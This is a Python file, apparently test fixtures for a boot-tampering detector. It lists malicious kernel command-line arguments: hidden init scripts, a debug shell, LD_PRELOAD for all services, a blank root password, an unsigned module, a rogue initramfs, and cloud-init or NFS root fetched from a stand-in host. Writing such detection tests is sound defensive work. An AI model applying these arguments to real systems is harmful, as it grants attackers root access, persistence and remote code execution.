"""Arguments of the kernel, in every place that gives some."""
from tamper_disk import Recipes, cpio, new_file, unsigned

recipe = Recipes()
argument = recipe.argument

argument('init-in-quotation-marks', '"init=/root/.x"')                  # the kernel takes the marks off (lib/cmdline.c, next_arg)
argument('init-behind-two-dashes', '-- systemd.run=/root/.x')           # systemd reads on behind them (kernel-command-line(7))
argument('command-that-systemd-runs', 'systemd.run="/bin/sh /root/.x"')  # systemd-run-generator(8)
argument('unit-that-systemd-wants', 'systemd.wants=debug-shell.service')  # systemd-debug-generator(8)
argument('variable-of-all-services', 'systemd.setenv=LD_PRELOAD=/root/.x.so')  # systemd(1), kernel command line
argument('credential-of-the-password', 'systemd.set_credential=passwd.hashed-password.root:')  # systemd.system-credentials(7)
argument('settings-of-the-kernel', 'sysctl.kernel.core_pattern="|/root/.x %p"')  # fs/proc/proc_sysctl.c, do_sysctl_args
recipe['modules-to-load'] = lambda d: (d.argument('modules_load=helper'), (  # systemd-modules-load.service(8)
    'LNX-KERNEL-010', d.put(f'{d.modules}/kernel/helper.ko', unsigned(d.module()[1]))))[1]
argument('cloud-init-from-elsewhere', '"ds=nocloud-net;s=http://203.0.113.9/"')  # cloud-init, NoCloud: user data of that server
argument('configuration-of-cloud-init', '"cc:{bootcmd: [/root/.x]}end_cc"')  # cloud-init, kernel command line
argument('address-of-cloud-init', 'cloud-config-url=http://203.0.113.9/x')  # the same; url= is its older name
argument('root-over-the-network', 'boot=nfs nfsroot=203.0.113.9:/x')     # initramfs-tools(7); nfsroot.rst
argument('root-of-another-disk', 'root=PARTUUID=00000000-1111-4222-8333-444444444444')  # the last root= counts
argument('tables-of-the-machine', 'acpi_rsdp=0x1000')  # kernel-parameters.txt: tables at that address
recipe['kernels-own-initramfs'] = lambda d: (d.argument('initrd=/EFI/x.img'), (  # efi/libstub/file.c: the stub loads it from the loader's volume
    'LNX-KERNEL-014', d.esp_put('/EFI/x.img', cpio([new_file('init', b'#!/bin/sh\nexec /x\n')]))))[1]
argument('debug-port', 'kgdboc=ttyS0 kgdbwait')                          # kernel-parameters.txt: memory by the serial line

# The arguments below change what is mounted, which makes the line that they stand in uncertain, or what is started.
argument('no-fstab', 'fstab=no')                         # systemd-fstab-generator(8)
argument('state-in-memory', 'systemd.volatile=overlay')  # systemd-volatile-root.service(8)
argument('usr-of-another-disk', 'mount.usr=/dev/vdb1 mount.usrfstype=ext4')  # systemd-fstab-generator(8)
argument('root-with-other-flags', 'rootflags=data=journal,loop=/srv/x.img')  # systemd-fstab-generator(8)
argument('cron-masked-by-an-argument', 'systemd.mask=cron.service', 'LNX-AGENT-001')    # systemd-debug-generator(8)
argument('another-target', 'systemd.unit=rescue.target', 'LNX-AGENT-001')  # systemd(1)
argument('runlevel-of-old', '1', 'LNX-AGENT-001')                        # systemd(1): 1, s, S, single: rescue.target
